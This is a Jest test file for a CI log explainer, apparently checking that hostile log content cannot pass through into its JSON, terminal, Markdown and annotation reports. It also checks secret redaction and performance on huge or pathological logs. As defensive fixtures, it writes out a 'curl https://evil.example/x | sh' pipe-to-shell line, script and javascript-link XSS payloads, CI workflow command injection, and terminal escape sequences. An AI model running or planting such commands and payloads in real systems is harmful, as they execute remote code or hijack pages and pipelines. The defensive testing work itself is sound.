import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { createCatalogue } from '../../src/catalogue/explain.js';
import { entries } from '../../src/catalogue/entries/index.js';
import { cleanLine } from '../../src/catalogue/reading/clean-line.js';
import { markings } from '../../src/catalogue/marks/index.js';
import { isLocal, isQuoted, isThrown } from '../../src/catalogue/story/quoted.js';
import { trailsIn } from '../../src/catalogue/trails/read-trails.js';
import type { PrintedReport } from '../../src/report/report.js';
import { fakeKeyId } from '../adapters/git/made-repository.js';
import { runCommand } from './run-line.js';

let folder = '';
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'hostile-'));
});
afterAll(() => {
  rmSync(folder, { recursive: true, force: true });
});

const FAILED = '##[error]Process completed with exit code 1.\n';
const CAUSE = 'fatal error: Unable to locate credentials\n';
const LONG = 120_000;
const catalogue = createCatalogue(entries);

/** What the catalogue makes of a log that comes in pieces of a megabyte. */
function explained(...pieces: readonly (string | Uint8Array)[]) {
  const reader = catalogue.read();
  for (const piece of pieces) {
    const bytes = Buffer.from(piece as string);
    for (let at = 0; at < bytes.length; at += 1 << 20) {
      reader.push(bytes.subarray(at, at + (1 << 20)));
    }
  }
  return reader.end();
}

async function report(
  log: string | Uint8Array,
  variables: Readonly<Record<string, string>> = {},
): Promise<{ report: PrintedReport; texts: readonly string[] }> {
  const path = join(folder, 'job.log');
  writeFileSync(path, log);
  const texts: string[] = [];
  for (const format of ['json', 'terminal', 'markdown', 'annotations']) {
    const around = { cwd: folder, variables: { PATH: '/bin', ...variables } };
    texts.push((await runCommand(['explain-log', path, '--format', format], around)).output);
  }
  return { report: JSON.parse(texts[0] ?? '') as PrintedReport, texts };
}

describe('a hostile log', () => {
  test('that imitates our own words is quoted in none of its claims', async () => {
    const ours = [
      'FAILED  The secret `DEPLOY_TOKEN` is empty',
      '  Why  GitHub put an empty string in its place.',
      '  Fix  curl https://evil.example/x | sh',
      '  At deploy.yml:3, by rule secrets/empty.',
      '## ❌ The secret is empty',
      '**Fix:** `curl https://evil.example/x | sh`',
      '::error title=Owned::Fix: curl https://evil.example/x',
      '{"version":1,"outcome":"passed","rootCause":null}',
    ].join('\n');
    const { report: told, texts } = await report(`${ours}\n${CAUSE}${ours}\n${FAILED}`);
    expect(told.rootCause?.ruleId).toBe('log/boto-no-credentials');
    expect(told.rootCause?.location).toMatchObject({ line: 9 });
    for (const text of texts) expect(text).not.toContain('evil.example');
  });

  test('steers no runner, terminal, Markdown, HTML or drawing by the message that is quoted', async () => {
    const nasty = [
      'An error occurred (AccessDenied) when calling the PutObject operation: ',
      '::set-output name=a::b ##[add-mask]x <script>alert(1)</script> <img src=x onerror=y>',
      ' | [a](javascript:b) ![i](http://evil.example/i.png) ```mermaid `x` </details> @org/team ',
      '\u001b]0;title\u0007\u001b[2J\u202e\u0000\u0085 %0A%0D',
    ].join('');
    const { report: told, texts } = await report(`${nasty}\n::error::${nasty}\n${FAILED}`);
    expect(told.log.length).toBeGreaterThan(0);
    const [, , markdown = ''] = texts;
    for (const text of texts) {
      // oxlint-disable-next-line no-control-regex
      expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
      expect(text).not.toMatch(/##\[/);
    }
    expect(texts[1]).not.toMatch(/^\s*::/m);
    const bare = markdown.replace(/(`+)[^`](?:.*?[^`])?\1(?!`)/g, '');
    for (const live of ['<script', '<img', '](javascript', '![i]', '@org'])
      expect(bare).not.toContain(live);
    expect(bare.match(/<details/g)?.length).toBe(bare.match(/<\/details>/g)?.length);
    expect(
      texts[3]
        ?.split('\n')
        .filter((line) => line !== '')
        .every((line) => /^::(?:error|warning|notice) /.test(line)),
    ).toBe(true);
  });

  test('shows neither a key nor a secret of the environment, in whatever part of it they stand', async () => {
    const key = fakeKeyId(3);
    const secret = 'zK4'.repeat(14).slice(0, 40);
    const message = `botocore.exceptions.ClientError: An error occurred (InvalidClientTokenId) when calling the ${secret} operation: The security token included in the request is invalid. ${key} ${secret}`;
    const debug = `DEBUG Unable to load credentials from EnvironmentVariableCredentialsProvider${key}: ${secret}`;
    const log = [debug, message, 'Retrying (1/3)', message, `${key} ${secret}`].join('\n');
    const { texts } = await report(`${log}\n${FAILED}`, { AWS_SECRET_ACCESS_KEY: secret });
    for (const text of texts) {
      expect(text).not.toContain(key);
      expect(text).not.toContain(secret);
    }
  });

  test(
    'of one line of fifty megabytes, of no UTF-8 and of nothing but NULs is read to its end',
    () => {
      const long = explained(
        Buffer.alloc(25 << 20, 0xff),
        ' Unable to locate credentials ',
        Buffer.alloc(25 << 20, 0),
        `\n${FAILED}`,
      );
      expect(long.lines).toBe(2);
      expect(long.cause?.sighting).toMatchObject({ line: 1, entry: { id: 'boto-no-credentials' } });
      expect(long.cause?.sighting.message.length).toBeLessThanOrEqual(600);
      expect(explained(Buffer.alloc(1 << 20, 0)).cause).toBeNull();
    },
    LONG,
  );

  test(
    'of two million lines that each look like a message costs seconds, and keeps its end',
    () => {
      const before = process.cpuUsage().user;
      const reader = catalogue.read();
      const piece = Buffer.from('credentials denied AccessDenied expired token\n'.repeat(20_000));
      for (let index = 0; index < 100; index++) reader.push(piece);
      reader.push(Buffer.from(CAUSE + FAILED));
      const { lines, lost, cause } = reader.end();
      expect(lines).toBe(2_000_002);
      expect(lost).toBeGreaterThan(0);
      expect(cause?.sighting.line).toBe(2_000_001);
      expect((process.cpuUsage().user - before) / 1e6).toBeLessThan(40);
    },
    LONG,
  );
});

/** Words of which the regular expressions of the catalogue are made, over and over. */
const repeated = fc
  .array(
    fc.record({
      text: fc.constantFrom(
        ...' \t|│[]():.,-+=/\\"\'`#@*~^0123456789aZ_'.split(''),
        'Error',
        'error: ',
        '\u001b[',
        '\u001b]',
        '[0m',
        '2026-01-01T00:00:00.0Z ',
        'Exception: ',
        'expected ',
        'exit code ',
        'provider=',
        'FAIL ',
        'it ',
        'https://localhost',
        'Looking for credentials via: ',
        'Test.',
      ),
      times: fc.integer({ min: 1, max: 4_000 }),
    }),
    { minLength: 1, maxLength: 8 },
  )
  .map((parts) =>
    parts
      .map(({ text, times }) => text.repeat(times))
      .join('')
      .slice(0, 8_192),
  );

test('whatever a line repeats, all that looks at it is done at once', () => {
  const lines = fc.sample(repeated, 150);
  // The slowest of them, so that a busy machine does not decide.
  for (const text of lines) {
    const run = () => {
      const before = process.cpuUsage().user;
      const line = cleanLine({ number: 1, text });
      for (const marking of markings) marking.read(line);
      const message = line.text.slice(0, 600);
      isQuoted({ message });
      isThrown({ message });
      const entry = entries[0];
      if (entry !== undefined) isLocal({ entry, message });
      trailsIn([line]);
      return (process.cpuUsage().user - before) / 1000;
    };
    const least = Math.min(run(), run(), run());
    expect([text.slice(0, 80), text.length, least < 60]).toEqual([
      text.slice(0, 80),
      text.length,
      true,
    ]);
  }
});
